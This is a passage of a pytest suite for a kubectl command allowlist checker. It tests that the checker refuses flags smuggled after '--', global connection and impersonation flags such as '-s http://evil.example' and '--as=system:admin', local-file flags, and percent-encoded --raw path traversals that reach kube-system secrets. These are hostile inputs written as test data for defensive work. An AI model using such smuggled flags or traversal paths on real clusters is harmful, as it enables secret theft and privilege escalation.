    "kubectl -- cp web:/etc/passwd x",  # kubectl prints its help: the verb shown never runs
    "kubectl -n apps -- proxy",
    "kubectl -v 9 -- get pods",
])
def test_an_end_of_flags_before_the_verb_is_refused(command: str) -> None:
    exc = violation(command, "FlagBeforeVerb")
    assert "-- before the verb" in exc.message


@pytest.mark.parametrize("command", [
    # a -- right after a flag that takes no value (or has its value in the word) ends
    # kubectl's flags: what follows is the container's argv, where -s is ls's own flag
    "kubectl exec web -it -- ls -s",
    "kubectl exec web -i -t -- ls -s",
    "kubectl exec web --stdin --tty -- ls -s",
    "kubectl exec web --stdin=true -- ls -s",
    "kubectl exec web -it=true -- ls -s",
    "kubectl exec web -q -- ls -s /",
    "kubectl exec web -capp -- ls -s",
    "kubectl exec web -c=app -- ls -s",
    "kubectl exec web --container=app -- ls -s",
    "kubectl attach web -it -- -s",
    "kubectl run tmp --image=busybox --rm -it --restart=Never -- ls -s",
    "kubectl debug -it web --image=busybox --target=app -- ls -s",
    "kubectl create deployment web --image=busybox -r3 -- ls -s",
    "kubectl create job once --image=busybox --dry-run=client -- ls -s",
    "kubectl create job once --image=busybox --dry-run -- ls -s",  # its value is optional
    "kubectl logs web -p -- -s",  # -p is --previous in logs: the -- ends the flags
    # -p is --patch in kubectl patch: the rest of the word is the patch, no -s in it
    "kubectl patch deployment web -p'{\"spec\":{\"replicas\":2}}'",
])
def test_a_double_dash_after_a_flag_that_takes_no_value_ends_the_flags(command: str) -> None:
    assert parse(command) == shlex.split(command)


@pytest.mark.parametrize("command", [
    # the flag before the -- takes it as its value (kubectl 1.34 reads the -s after it as
    # --server): the flags go on
    "kubectl exec web -c -- -s http://evil.example",
    "kubectl exec web -ic -- -s http://evil.example",
    "kubectl exec web --container -- -s http://evil.example",
    "kubectl exec web --field-manager -- -s http://evil.example",
    "kubectl patch deployment web -p -- -s http://evil.example",  # -p is --patch here
    "kubectl patch deployment web --type merge -ip -- -s http://evil.example",
    "kubectl create deployment web --image=busybox -r -- -s http://evil.example",
    "kubectl exec web -x -- -s http://evil.example",  # a letter it does not know: fail closed
    "kubectl exec web --unknown -- -s http://evil.example",
    "kubectl get pods -l -- --as=system:admin",
    "kubectl -s http://evil.example get pods",
    "kubectl get pods -ps http://evil.example",  # get has no -p: the letters go on
    "kubectl logs web -ps http://evil.example",  # -p is --previous in logs
])
def test_a_double_dash_a_flag_may_take_as_its_value_does_not_end_the_flags(
        command: str) -> None:
    exc = violation(command, "ConnectionFlag")
    assert "evil" not in exc.message


def test_after_the_end_of_the_flags_the_words_are_the_programs_own() -> None:
    assert parse("kubectl exec web -- -s") == ["kubectl", "exec", "web", "--", "-s"]
    assert parse("kubectl exec web -c app -- kubectl --server=x") == [
        "kubectl", "exec", "web", "-c", "app", "--", "kubectl", "--server=x"]
    pattern = "kubectl exec {name} -it -- ls -s"  # a pattern reads its -- the same way
    allowlist = Allowlist.from_patterns([pattern])
    assert check("kubectl exec web -it -- ls -s", approved=["kubectl exec web -it -- ls -s"],
                 allowlist=allowlist)


@pytest.mark.parametrize("command", [
    # --user is the binding's subject there (kubectl 1.34: create rolebinding x
    # --clusterrole=view --user=alice --dry-run=client -o yaml binds User alice, and kubectl
    # still connects as its own user), --group and --serviceaccount too
    "kubectl create rolebinding ops --clusterrole=view --user=alice",
    "kubectl create rolebinding ops --clusterrole=view --user=alice --user=bob -n apps",
    "kubectl -n apps create rolebinding ops --role=reader --user alice",
    "kubectl create clusterrolebinding ops --clusterrole=view --user=alice --group=devs",
    "kubectl create rolebinding ops --clusterrole=view --serviceaccount=apps:web",
    "kubectl set subject rolebinding ops --user=alice",
    "kubectl set subject clusterrolebinding ops --user=alice --group=devs",
    # --profile is debug's own (a security profile), one of the values kubectl accepts
    "kubectl debug node/worker --profile=general --image=busybox",
    "kubectl debug -it web --image=busybox --profile netadmin",
    "kubectl debug web --copy-to=web-debug --profile=restricted --image=busybox",
])
def test_a_commands_own_flag_named_like_a_global_one_is_allowed(command: str) -> None:
    assert parse(command) == shlex.split(command)


@pytest.mark.parametrize(("command", "flag"), [
    ("kubectl --user=x get pods", "--user"),
    ("kubectl get pods --user=x", "--user"),
    ("kubectl --user=alice create rolebinding ops --clusterrole=view", "--user"),
    # cobra finds the subcommand past a flag and the word after it: only right after the verb
    ("kubectl create --user=alice rolebinding ops --clusterrole=view", "--user"),
    ("kubectl create -n apps rolebinding ops --user=alice", "--user"),
    ("kubectl create deployment web --image=nginx --user=alice", "--user"),
    ("kubectl set image deployment/web web=nginx --user=alice", "--user"),
    ("kubectl create rolebinding ops --user=alice --kubeconfig=/etc/x", "--kubeconfig"),
    ("kubectl create rolebinding ops --clusterrole=view --as=alice", "--as"),
    ("kubectl get pods --profile=cpu", "--profile"),  # the global one writes profile.pprof
    ("kubectl debug node/worker --profile=cpu --image=busybox", "--profile"),
    ("kubectl debug node/worker --profile=General --image=busybox", "--profile"),
    ("kubectl debug node/worker --profile", "--profile"),
    ("kubectl --profile=general debug node/worker", "--profile"),
    ("kubectl debug node/worker --profile=general --profile-output=x", "--profile-output"),
])
def test_a_global_flag_a_command_does_not_shadow_is_still_refused(command: str,
                                                                  flag: str) -> None:
    assert flag in violation(command, "ConnectionFlag").message


def test_a_pattern_may_set_a_commands_own_user_but_not_the_global_one() -> None:
    allowlist = Allowlist.from_patterns(
        ["kubectl create rolebinding {name} --clusterrole=view --user=*"])
    command = "kubectl create rolebinding ops --clusterrole=view --user=alice"
    assert check(command, approved=[command], allowlist=allowlist)
    for pattern in ("kubectl get pods --user=*", "kubectl create * ops --user=*"):
        with pytest.raises(ConfigError, match="ConnectionFlag"):
            AllowlistPattern.parse(pattern)


@pytest.mark.parametrize("command", [
    "kubectl logs web -f",  # -f is --follow in logs
    "kubectl logs -f web -n apps",
    "kubectl logs web -pf",
    "kubectl -n apps logs web --follow",
    "kubectl get pods -o json",
    "kubectl get pods -o 'go-template={{.metadata.name}}'",
    "kubectl get pods --template '{{.metadata.name}}'",  # inline: no -o names a file
    "kubectl get pods -o 'jsonpath={.items[0].metadata.name}'",
    "kubectl get pods -o custom-columns=NAME:.metadata.name",
    "kubectl get pods -l file=x",
    "kubectl create configmap x --from-literal=a=b -n apps",
    "kubectl create deploy web --image=nginx",
    "kubectl create -n apps deployment web --image=nginx",
    "kubectl -n apps --request-timeout 5s get pods",
    "kubectl --match-server-version --warnings-as-errors get pods",
    "kubectl -nv get pods",
    "kubectl patch deployment web -p '{\"spec\":{\"replicas\":2}}'",
    "kubectl set image deployment/web web=nginx:1",
    "kubectl apply view-last-applied deployment/web",
    "kubectl version",
    "kubectl help",
    "kubectl api-resources",
    "kubectl exec web -- cat /etc/hostname",  # after '--': the container's argv
    "kubectl",
])
def test_ordinary_commands_still_parse(command: str) -> None:
    assert parse(command) == shlex.split(command)


@pytest.mark.parametrize(("command", "pattern", "reason"), [
    # a wildcard lets the command fill in what the rules refuse: they refuse it all the same
    ("kubectl get pods -o go-template-file=t.tmpl", "kubectl get pods -o *", "LocalFile"),
    ("kubectl edit deployment/web", "kubectl * deployment/web", "LocalVerb"),
    ("kubectl evil deployment/web", "kubectl * deployment/web", "UnknownVerb"),
    ("kubectl create evil x", "kubectl create * x", "UnknownVerb"),
])
def test_an_allowlist_wildcard_does_not_admit_what_the_rules_refuse(
        command: str, pattern: str, reason: str) -> None:
    allowlist = Allowlist.from_patterns([pattern])
    assert allowlist.matches(shlex.split(command))
    with pytest.raises(ScopeViolation) as info:
        check(command, approved=[command], allowlist=allowlist)
    assert info.value.reason == reason


@pytest.mark.parametrize(("pattern", "rule"), [
    ("kubectl cp * *", "LocalVerb"),
    ("kubectl -n apps edit deployment/*", "LocalVerb"),
    ("kubectl evil *", "UnknownVerb"),
    ("kubectl create evil *", "UnknownVerb"),
    ("kubectl -A get pods", "FlagBeforeVerb"),
    ("kubectl create secret generic * -n apps --from-file=*", "LocalFile"),
    ("kubectl create secret generic * -n apps --from_file *", "LocalFile"),
    ("kubectl apply -f * -n apps", "LocalFile"),
    ("kubectl get pods -o go-template-file=*", "LocalFile"),
    ("kubectl get pods -ogo-template-file=*", "LocalFile"),
    ("kubectl get pods --output jsonpath-file=*", "LocalFile"),
])
def test_a_pattern_that_only_matches_refused_commands_is_a_configuration_error(
        pattern: str, rule: str) -> None:
    with pytest.raises(ConfigError) as info:
        Allowlist.from_patterns([pattern])
    assert f"(rule {rule})" in str(info.value)


@pytest.mark.parametrize("pattern", [
    "kubectl logs * -f -n apps",  # -f is --follow in logs
    "kubectl logs {name} -f",
    "kubectl * pods",  # the verb is left to the command: parse refuses the bad ones
    "kubectl get pods -o *",
    "kubectl get pods -o go-template=*",
    "kubectl create configmap * --from-literal=*",
    "kubectl create * web",
    "kubectl -n * get pods",
])
def test_patterns_that_can_match_a_command_that_runs_are_accepted(pattern: str) -> None:
    assert Allowlist.from_patterns([pattern]).patterns[0].source == pattern


def test_the_verb_tables_agree_with_the_pinned_kubectl() -> None:
    import subprocess

    from wingman.dev import tools as devtools
    from wingman.review import commands as grammar

    assert KUBECTL_VERBS == grammar.KUBECTL_VERBS
    assert LOCAL_VERBS | SERVING_VERBS <= KUBECTL_VERBS
    kubectl = devtools.find_tool("kubectl")
    if kubectl is None:
        pytest.skip("kubectl is not provisioned; run `bash .ci/provision-tools.sh`")

    def commands(*words: str) -> set[str]:
        """The commands ``kubectl WORDS --help`` lists under its "... Commands ...:" headings."""
        out = subprocess.run([str(kubectl), *words, "--help"], capture_output=True, text=True,
                             timeout=60, check=True, env={"KUBECONFIG": "/nonexistent"}).stdout
        found, listing = set(), False
        for line in out.splitlines():
            if not line.startswith(" "):
                listing = "Commands" in line and line.endswith(":")
            elif listing and line.strip():
                found.add(line.split()[0])
        return found

    assert commands() == KUBECTL_VERBS - {"alpha", "help", "options"}
    assert commands("create")  # create's subcommands are not plugins
    for sub in commands("create"):
        parse(f"kubectl create {sub} x")


# Flags of runnable kubectl commands whose help mentions files, paths or URLs, and why they
# read or write nothing of the gateway pod.
_NOT_LOCAL_FILES = {
    "--raw": "a path on the API server (get/create/replace/delete --raw)",
    "--recursive": "recurses into the directories -f names, and -f never runs",
    "--output": "checked by value: a format ending in 'file' is refused",
    "--template": "inline unless -o names a file format, which is refused",
    "--local": "patch --local works on -f's objects, and -f never runs",
    "--patch": "the patch itself, inline",
    "--tail": "lines of the container's log",
    "--rule": "an ingress rule's host and path",
    "--non-resource-url": "a URL path of the API server, in an RBAC rule",
}


def test_every_flag_that_names_a_file_of_the_pinned_kubectl_is_refused() -> None:
    """A flag of a kubectl command that may run whose help speaks of files, directories, paths
    or URLs is refused (LOCAL_FILE_FLAGS, CONNECTION_FLAGS), or known not to touch the gateway
    pod's files: a kubectl upgrade that adds one fails here until it is judged."""
    import re
    import subprocess

    from wingman.dev import tools as devtools

    kubectl = devtools.find_tool("kubectl")
    if kubectl is None:
        pytest.skip("kubectl is not provisioned; run `bash .ci/provision-tools.sh`")

    def helptext(words: tuple[str, ...]) -> str:
        return subprocess.run([str(kubectl), *words, "--help"], capture_output=True, text=True,
                              timeout=60, check=True, env={"KUBECONFIG": "/nonexistent"}).stdout

    mentions = re.compile(r"\bfiles?\b|director|\bpaths?\b|\burls?\b|editor", re.IGNORECASE)
    found: dict[str, str] = {}
    todo: list[tuple[str, ...]] = [(verb,) for verb in sorted(KUBECTL_VERBS - LOCAL_VERBS
                                                              - SERVING_VERBS
                                                              - {"alpha", "help", "options"})]
    while todo:
        words = todo.pop()
        flag, listing, options = None, False, False
        for line in helptext(words).splitlines():
            if not line.strip():
                continue
            if not line.startswith((" ", "\t")):
                listing = "Commands" in line and line.endswith(":")
                options = line == "Options:"
                flag = None
            elif listing and line.strip():
                todo.append((*words, line.split()[0]))
            elif options and (m := re.match(r"^ {4}(?:-\w, )?(--[\w-]+)", line)):
                flag = m.group(1)
                if mentions.search(line):
                    found[flag] = " ".join(words)
            elif options and flag and mentions.search(line):
                found[flag] = " ".join(words)
    assert "--from-file" in found and "--filename" in found  # the crawl reads the help
    unjudged = {f: where for f, where in found.items()
                if f not in LOCAL_FILE_FLAGS | CONNECTION_FLAGS | _NOT_LOCAL_FILES.keys()}
    assert not unjudged, unjudged


def test_the_flags_that_end_at_a_double_dash_agree_with_the_pinned_kubectl(tmp_path: Path) -> None:
    """Where the rules read a ``--`` right after a flag as the end of kubectl's flags (and stop
    reading), the pinned kubectl does too: it never takes the ``--`` as that flag's value and
    reads the words after it as flags (``exec web -c -- -s host`` connects to host). And where
    they read the rest of a short flag's word as its value (``patch x -pVALUE``), kubectl does
    too. Crawls every command that may run; a kubectl upgrade that gives a flag of
    SWITCH_FLAGS a value, or a short letter another meaning, fails here."""
    import re
    import subprocess

    from wingman.dev import tools as devtools

    kubectl = devtools.find_tool("kubectl")
    if kubectl is None:
        pytest.skip("kubectl is not provisioned; run `bash .ci/provision-tools.sh`")
    config = tmp_path / "config"
    config.write_text("apiVersion: v1\nkind: Config\nclusters: [{name: c, cluster: {server: "
                      "'http://127.0.0.1:1'}}]\ncontexts: [{name: c, context: {cluster: c}}]\n"
                      "current-context: c\n")
    env = {"KUBECONFIG": str(config), "HOME": str(tmp_path)}

    def helps(*words: str) -> bool:
        """Whether ``kubectl WORDS`` prints its help (it read the -h in WORDS as a flag)."""
        done = subprocess.run([str(kubectl), *words], capture_output=True, text=True,
                              timeout=60, env=env, stdin=subprocess.DEVNULL)
        return done.returncode == 0 and "Usage:" in done.stdout

    def accepted(command: str) -> bool:
        try:
            parse(command)
        except ScopeViolation:
            return False
        return True

    checked = 0
    todo: list[tuple[str, ...]] = [(verb,) for verb in sorted(KUBECTL_VERBS - LOCAL_VERBS
                                                              - SERVING_VERBS
                                                              - {"alpha", "help", "options"})]
    while todo:
        words = todo.pop()
        flags, listing, options = {"--disable-compression", "--match-server-version",
                                   "--warnings-as-errors"}, False, False
        out = subprocess.run([str(kubectl), *words, "--help"], capture_output=True, text=True,
                             timeout=60, check=True, env=env).stdout
        for line in out.splitlines():
            if not line.strip():
                continue
            if not line.startswith((" ", "\t")):
                listing = "Commands" in line and line.endswith(":")
                options = line == "Options:"
            elif listing and line.strip():
                todo.append((*words, line.split()[0]))
            elif options and (m := re.match(r"^ {4}(?:-(\w), )?(--[\w-]+)", line)):
                flags.update({m.group(2), *([f"-{m.group(1)}"] if m.group(1) else [])})
        if helps(*words, "--", "-h"):
            continue  # a group with no command of its own: it prints its help whatever follows
        command = " ".join(words)
        for flag in sorted(flags - {"-h", "--help", "-s"}):
            if accepted(f"kubectl {command} {flag} -- -s host"):
                checked += 1
                assert not helps(*words, flag, "--", "-h"), (command, flag)
            if len(flag) == 2 and accepted(f"kubectl {command} {flag}s host"):
                checked += 1
                assert not helps(*words, f"{flag}h"), (command, flag)
    assert checked > 100  # the crawl read the flags


# ----------------------------------------------------------------------- kubectl --raw paths


@pytest.mark.parametrize("command", [
    # kubectl decodes the path and cleans it (path.Join) before it requests it:
    # /readyz/..%2F..%2Fapi%2Fv1%2Fnamespaces%2Fkube-system%2Fsecrets is
    # GET /api/v1/namespaces/kube-system/secrets
    "kubectl get --raw /readyz/..%2F..%2Fapi%2Fv1%2Fnamespaces%2Fkube-system%2Fsecrets",
    "kubectl get --raw=/api/v1/namespaces/apps/pods/%2E%2E%2F%2E%2E%2Fsecrets%2Fdb",
    "kubectl get --raw /api/v1/namespaces/apps/s%65crets",  # 'secrets', hidden from a reader
    "kubectl get --raw /api/v1/namespaces/apps/pods/../../kube-system/secrets",
    "kubectl get --raw /api/v1/namespaces/apps/pods/./x",
    "kubectl get --raw=//evil.example/api/v1/namespaces/apps/secrets",  # the host is dropped
    "kubectl get --raw https://evil.example/api/v1/namespaces/apps/pods",
    "kubectl get --raw api/v1/namespaces/apps/pods",
    "kubectl delete --raw /api/v1/namespaces/apps/pods/..%2Fsecrets%2Fdb",
    "kubectl -n apps get --raw=/api/v1/namespaces/apps/pods --raw /api/v1/%2E%2E",  # last wins
    "kubectl get --raw= pods",  # kubectl reads an empty --raw as none: a plain get pods
    # kubectl drops a '#' and what follows: GET /api/v1/nodes/n1/proxy, the node's proxy
    "kubectl get --raw '/api/v1/nodes/n1/proxy#/metrics'",
    "kubectl get --raw '/api/v1/namespaces/apps/services/web/proxy#'",
    "kubectl get --raw '/api/v1/namespaces/apps/pods?limit=1#x'",
])
def test_a_raw_path_kubectl_would_rewrite_never_runs(command: str) -> None:
    exc = violation(command, "RawPath")
    assert "--raw" in exc.message and "%-escapes" in exc.message
    assert "kube-system" not in exc.message and "evil" not in exc.message


def test_a_wildcard_in_a_raw_path_stays_in_its_segment() -> None:
    allowlist = Allowlist.from_patterns(["kubectl get --raw /readyz/*"])
    command = "kubectl get --raw /readyz/..%2F..%2Fapi%2Fv1%2Fnamespaces%2Fkube-system%2Fsecrets"
    assert allowlist.matches(shlex.split(command))  # the pattern admits it: the rule refuses it
    with pytest.raises(ScopeViolation) as info:
        check(command, approved=[command], allowlist=allowlist)
    assert info.value.reason == "RawPath"
    assert check("kubectl get --raw /readyz/etcd", approved=["kubectl get --raw /readyz/etcd"],
                 allowlist=allowlist) == ["kubectl", "get", "--raw", "/readyz/etcd"]


@pytest.mark.parametrize("command", [
    "kubectl get --raw /readyz/etcd",
    "kubectl get --raw=/api/v1/namespaces/apps/pods",
    "kubectl get --raw '/api/v1/namespaces/apps/pods?labelSelector=app%3Dweb'",  # the query
    "kubectl get --raw /apis/metrics.k8s.io/v1beta1/namespaces/apps/pods",
])
def test_a_plain_raw_path_still_runs(command: str) -> None:
    assert parse(command) == shlex.split(command)


def test_a_pattern_whose_raw_path_is_always_rewritten_is_a_configuration_error() -> None:
    with pytest.raises(ConfigError) as info:
        Allowlist.from_patterns(["kubectl get --raw /api/v1/namespaces/apps/pods/../*"])
    assert "(rule RawPath)" in str(info.value)
